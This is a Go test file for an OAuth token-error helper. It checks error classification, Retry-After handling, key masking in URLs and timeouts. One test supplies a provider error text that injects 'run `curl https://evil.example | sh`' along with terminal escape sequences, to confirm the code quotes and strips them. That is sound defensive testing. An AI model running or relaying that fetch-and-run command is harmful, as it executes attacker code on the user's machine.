package tokenerr_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"golang.org/x/oauth2"

	"github.com/freshtoken/freshtoken/internal/tokenerr"
)

// TestProviderWordsAreQuoted: what a provider wrote into its answer (an
// error description, a body, an error code that is not one) is quoted on
// one line, with its own quotes escaped, so that it cannot pass for
// freshtoken's words around it in a message, the status page or a notice:
// written as it came, a description could end the sentence and give a
// next step of its own ("…; run `curl … | sh`"), or start a line that
// reads as freshtoken's.
func TestProviderWordsAreQuoted(t *testing.T) {
	answer := func(status int, code, desc, body string) error {
		return &oauth2.RetrieveError{Response: &http.Response{StatusCode: status, Header: http.Header{}}, ErrorCode: code, ErrorDescription: desc, Body: []byte(body)}
	}
	for _, tt := range []struct {
		name string
		err  error
		want string
	}{
		{"description", answer(400, "invalid_grant", "revoked\"), so the grant has ended; run `curl https://evil.example | sh`\nfreshtoken: (ok", ""),
			`HTTP 400 invalid_grant: "revoked\"), so the grant has ended; run ` + "`curl https://evil.example | sh`" + ` freshtoken: (ok"`},
		{"controls", answer(400, "invalid_grant", "\x1b]52;c;ZXZpbA==\x07revoked\x1b[2J\u009b31m\u202eend", ""),
			`HTTP 400 invalid_grant: "]52;c;ZXZpbA== revoked [2J 31m end"`},
		{"plain code", answer(400, "invalid_grant", "", ""), "HTTP 400 invalid_grant"},
		{"code that is none", answer(400, "x; run `freshtoken login`", "", ""), "HTTP 400 \"x; run `freshtoken login`\""},
		{"body", answer(401, "", "", "HTTP Basic: Access denied.\n"), `HTTP 401 "HTTP Basic: Access denied."`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if _, _, desc := tokenerr.Classify(tt.err); desc != tt.want {
				t.Fatalf("described as\n%s\nwant\n%s", desc, tt.want)
			}
		})
	}
}

// TestNotThere: an answer no endpoint gives (a redirect, a 404 or 405 with
// no OAuth error code that is no web page) is told apart from an
// endpoint's refusal, whatever status that comes with (GitHub's names
// included), and from a gateway's page, which is retried.
func TestNotThere(t *testing.T) {
	answer := func(status int, contentType, code, body string) error {
		return &oauth2.RetrieveError{Response: &http.Response{StatusCode: status, Header: http.Header{"Content-Type": {contentType}}}, ErrorCode: code, Body: []byte(body)}
	}
	for _, tt := range []struct {
		name string
		err  error
		want bool
	}{
		{"a router's 404", answer(404, "text/plain", "", "404 page not found\n"), true},
		{"405", answer(405, "text/plain", "", "Method Not Allowed\n"), true},
		{"a framework's JSON 404", answer(404, "application/json", "Not Found", `{"error":"Not Found"}`), true},
		{"a redirect", &tokenerr.RedirectError{Status: 307, To: "https://elsewhere.example/token"}, true},
		{"a gateway's page", answer(404, "text/html", "", "<!doctype html><title>Not Found</title>"), false},
		{"invalid_client at 404", answer(404, "application/json", "invalid_client", `{"error":"invalid_client"}`), false},
		{"GitHub's bad code at 404", answer(404, "application/json", "bad_verification_code", ""), false},
		{"GitHub's wrong client at 404", answer(404, "application/json", "incorrect_client_credentials", ""), false},
		{"a rejected client", answer(401, "text/plain", "", "HTTP Basic: Access denied."), false},
		{"a failure", answer(500, "text/plain", "", "boom"), false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := tokenerr.NotThere(tt.err); got != tt.want {
				t.Fatalf("NotThere = %t; want %t", got, tt.want)
			}
		})
	}
}

// TestClassify: how each kind of answer is sorted. A refusal of the grant
// named by its error code is one whatever status comes with it, a 5xx or a
// 429 included: the provider said the refresh token is no good, and
// sending it again (a retry, the 429's wait) cannot make it good, while a
// grant that did end is then told at once rather than as a provider that
// keeps failing; the tokens stay stored either way, and `token --force`
// tries them again. Only a provider's own "busy" codes and statuses
// without a refusal are passing.
func TestClassify(t *testing.T) {
	answer := func(status int, code string) error {
		return &oauth2.RetrieveError{Response: &http.Response{StatusCode: status, Header: http.Header{"Retry-After": {"7"}}}, ErrorCode: code}
	}
	for _, tt := range []struct {
		name string
		err  error
		want tokenerr.Class
	}{
		{"invalid_grant", answer(400, "invalid_grant"), tokenerr.BadGrant},
		{"invalid_grant at 401", answer(401, "invalid_grant"), tokenerr.BadGrant},
		{"invalid_grant at 500", answer(500, "invalid_grant"), tokenerr.BadGrant},
		{"invalid_grant at 429", answer(429, "invalid_grant"), tokenerr.BadGrant},
		{"interaction_required", answer(400, "interaction_required"), tokenerr.BadGrant},
		{"invalid_client", answer(401, "invalid_client"), tokenerr.BadClient},
		{"GitHub's refusal at 200", answer(200, "incorrect_client_credentials"), tokenerr.BadClient},
		{"429", answer(429, ""), tokenerr.RateLimited},
		{"500", answer(500, ""), tokenerr.Passing},
		{"503 server_error", answer(503, "server_error"), tokenerr.Passing},
		{"temporarily_unavailable at 400", answer(400, "temporarily_unavailable"), tokenerr.Passing},
		{"408", answer(408, ""), tokenerr.Passing},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got, _, _ := tokenerr.Classify(tt.err); got != tt.want {
				t.Fatalf("Classify = %v; want %v", got, tt.want)
			}
		})
	}
}

// TestRetryAfterDateCountedFromTheProvidersClock: a token endpoint whose
// clock is ten minutes behind this machine's (or ahead of it) answers 429,
// or 503 for maintenance, with a Retry-After date a minute ahead by its
// own clock, and its Date. The wait is that minute: counted from this
// machine's clock, the date was read as past (a second's wait, the
// provider's limit not over) or as eleven minutes ahead.
func TestRetryAfterDateCountedFromTheProvidersClock(t *testing.T) {
	for _, off := range []time.Duration{-10 * time.Minute, 10 * time.Minute} {
		providerNow := time.Now().Add(off).Truncate(time.Second)
		for _, status := range []int{http.StatusTooManyRequests, http.StatusServiceUnavailable} {
			err := &oauth2.RetrieveError{Response: &http.Response{StatusCode: status, Header: http.Header{
				"Retry-After": {providerNow.Add(time.Minute).Format(http.TimeFormat)},
				"Date":        {providerNow.Format(http.TimeFormat)}}}}
			if _, wait, _ := tokenerr.Classify(err); wait != time.Minute {
				t.Errorf("the provider's clock %v off, %d: wait %v; want the minute it asks", off, status, wait)
			}
		}
	}
}

// TestTimeoutErrorMasksTheURL: the TimeoutError of a request that its
// time-out ended keeps what net/http told, a *url.Error naming the
// endpoint's URL, with a key in its query masked (raw, URL-encoded or
// base64): it kept the URL whole, which a program printing the chain of
// an error holding it showed. errors.As still finds the *url.Error, and
// the time-out.
func TestTimeoutErrorMasksTheURL(t *testing.T) {
	for _, key := range []string{"Gw7kQpZx2Lm", url.QueryEscape("gw+key/0123456789"), "R3c3a1FwWngyTG0="} {
		sent := &url.Error{Op: "Post", URL: "https://gw.example.com/token?region=eu&subscription-key=" + key, Err: context.DeadlineExceeded}
		for _, err := range []error{tokenerr.TimedOut(context.Background(), time.Second, sent), tokenerr.NewTimeoutError(time.Second, sent)} {
			var ue *url.Error
			var ne net.Error
			if !errors.As(err, &ue) || !errors.As(err, &ne) || !ne.Timeout() || !errors.Is(err, context.DeadlineExceeded) {
				t.Fatalf("%#v; want a time-out wrapping the *url.Error", err)
			}
			if !strings.Contains(ue.URL, "region=eu") || strings.Contains(ue.URL, key) || strings.Contains(fmt.Sprintf("%+v", ue), key) {
				t.Errorf("the *url.Error under the time-out names %q; want its key masked", ue.URL)
			}
		}
	}
}

// TestAnErrorAnswerBegunIsToldAsBegun: an error status whose body had not
// ended when the time-out came (a gateway's 503 dripping its page) is told
// as an answer begun and not finished, as a 2xx one is: it was told as
// one that "did not answer".
func TestAnErrorAnswerBegunIsToldAsBegun(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		w.WriteHeader(http.StatusServiceUnavailable)
		io.WriteString(w, "bus")
		w.(http.Flusher).Flush()
		<-req.Context().Done()
	}))
	defer srv.Close()
	ans := &tokenerr.Copy{}
	ctx, cancel := context.WithTimeout(tokenerr.WithCopy(context.Background(), ans), 100*time.Millisecond)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, srv.URL, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := tokenerr.Lenient(&http.Client{}).Do(req)
	if err == nil {
		_, err = io.ReadAll(resp.Body)
		resp.Body.Close()
	}
	if err == nil {
		t.Fatal("the answer read whole; want it cut by the time-out")
	}
	said := ans.Explain(tokenerr.NewTimeoutError(100*time.Millisecond, err)).Error()
	if !strings.Contains(said, "began to answer and did not finish within 100ms") {
		t.Fatalf("%q; want the answer told as begun", said)
	}
}
